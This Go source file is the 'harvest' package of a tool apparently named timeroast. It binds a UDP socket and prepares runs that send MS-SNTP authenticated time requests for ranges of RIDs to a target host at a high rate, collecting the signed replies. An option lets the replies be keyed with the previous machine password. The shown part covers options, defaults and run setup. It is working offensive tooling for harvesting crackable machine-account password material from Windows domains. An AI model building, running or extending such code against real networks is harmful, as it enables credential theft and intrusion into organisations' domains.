// Package harvest sends MS-SNTP authenticated time requests for a sequence
// of RIDs and collects the signed replies.
//
// One Run owns one UDP socket. Sending and receiving interleave on that
// socket in a single loop whose only suspension point is a readiness wait
// bounded by the query interval. A Run ends when no valid reply has arrived
// for the give-up duration; running out of RIDs alone does not end it.
package harvest

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"time"

	log "github.com/sirupsen/logrus"

	"timeroast/internal/limiter"
	"timeroast/internal/ntp"
	"timeroast/internal/targets"
)

const (
	DefaultRate   = 180
	DefaultGiveUp = 24 * time.Second
)

// Recorder receives a copy of every datagram read from the socket,
// including noise. Recording failures are logged and never stop a run.
type Recorder interface {
	Record(from net.Addr, to net.Addr, payload []byte) error
}

// Options configures a Harvester. Zero values select the defaults noted.
type Options struct {
	Rate        int           // queries per second; default 180
	GiveUp      time.Duration // idle time before a run ends; default 24s
	OldPassword bool          // key the reply with the previous machine password
	SourcePort  int           // local port; 0 = ephemeral
	Port        int           // remote port; default 123

	Template ntp.Template // request prefix; default ntp.DefaultTemplate
	Listen   ListenFunc   // socket factory; default ListenUDP
	Recorder Recorder     // optional capture of received datagrams
	Stats    *Stats       // optional shared counters
	Log      *log.Entry
}

// Harvester starts runs against hosts with a fixed set of Options.
type Harvester struct {
	opts Options
}

// New applies defaults to zero fields of opts. Negative Rate or GiveUp
// values are kept and reported by Start.
func New(opts Options) *Harvester {
	if opts.Rate == 0 {
		opts.Rate = DefaultRate
	}
	if opts.GiveUp == 0 {
		opts.GiveUp = DefaultGiveUp
	}
	if opts.Port == 0 {
		opts.Port = ntp.Port
	}
	if opts.Template.Len() == 0 {
		opts.Template = ntp.DefaultTemplate
	}
	if opts.Listen == nil {
		opts.Listen = ListenUDP
	}
	if opts.Stats == nil {
		opts.Stats = &Stats{}
	}
	if opts.Log == nil {
		opts.Log = log.NewEntry(log.StandardLogger())
	}
	return &Harvester{opts: opts}
}

// Options returns the effective options.
func (h *Harvester) Options() Options { return h.opts }

// Stats returns the counters every run of h updates.
func (h *Harvester) Stats() *Stats { return h.opts.Stats }

// Start binds the socket and resolves host, then returns a Run that is
// driven by calling Next. No packet is sent before Start returns.
//
// A bind refused for lack of privilege is reported as ErrBindPermission.
func (h *Harvester) Start(ctx context.Context, host string, rids targets.Iterator) (*Run, error) {
	o := h.opts
	if o.Rate <= 0 || o.GiveUp <= 0 {
		return nil, fmt.Errorf("%w: rate=%d giveup=%v", ErrInvalidOptions, o.Rate, o.GiveUp)
	}

	sock, err := o.Listen(o.SourcePort)
	if err != nil {
		if errors.Is(err, os.ErrPermission) && !errors.Is(err, ErrBindPermission) {
			return nil, fmt.Errorf("%w %d (may need to run as root): %w", ErrBindPermission, o.SourcePort, err)
		}
		return nil, fmt.Errorf("bind source port %d: %w", o.SourcePort, err)
	}

	raddr, err := net.ResolveUDPAddr("udp4", net.JoinHostPort(host, strconv.Itoa(o.Port)))
	if err != nil {
		sock.Close()
		return nil, fmt.Errorf("resolve %s: %w", host, err)
	}

	interval := time.Second / time.Duration(o.Rate)
	now := time.Now()
	r := &Run{
		ctx:      ctx,
		sock:     sock,
		raddr:    raddr,
		rids:     rids,
		tpl:      o.Template,
		flag:     ntp.KeyFlag(o.OldPassword),
		interval: interval,
		giveUp:   o.GiveUp,
		limit:    limiter.NewTokenBucket(float64(o.Rate), 1),
		lastOK:   now,
		started:  now,
		seen:     make(map[uint32]struct{}),
		rec:      o.Recorder,
		stats:    o.Stats,
		log:      o.Log.WithField("host", host),
	}
	r.query = make([]byte, 0, o.Template.QueryLen())
	r.log.Debugf("harvest started: local=%s remote=%s interval=%v giveup=%v",
		sock.LocalAddr(), raddr, interval, o.GiveUp)
	return r, nil
}
